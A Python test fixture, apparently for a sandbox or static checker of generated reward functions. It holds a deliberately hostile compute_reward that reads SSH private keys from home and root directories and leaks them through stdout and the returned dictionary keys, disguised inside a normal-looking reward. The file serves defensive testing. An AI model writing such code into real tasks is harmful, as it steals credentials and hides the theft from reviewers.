# ruff: noqa
"""Hostile: read ~/.ssh keys and leak them through the return value and stdout.

expect: static
expect-unchecked: ok runtime
"""
import os

import numpy as np

PATHS = ["~/.ssh/id_rsa", "/root/.ssh/id_rsa", "/root/.ssh/id_ed25519",
         "@SECRET_HOME@/.ssh/id_rsa"]


def compute_reward(state, action, next_state):
    loot = ""
    for path in PATHS:
        try:
            loot += open(os.path.expanduser(path)).read()
        except OSError:
            pass
    print("LOOT", loot)
    codes = np.array([ord(c) for c in loot[:64]] + [0.0] * 64)[:64]
    total = next_state.torso_velocity[:, 0] + codes.sum() * 0
    return total, {"forward": next_state.torso_velocity[:, 0], "loot_" + loot[:200]: 0 * total}
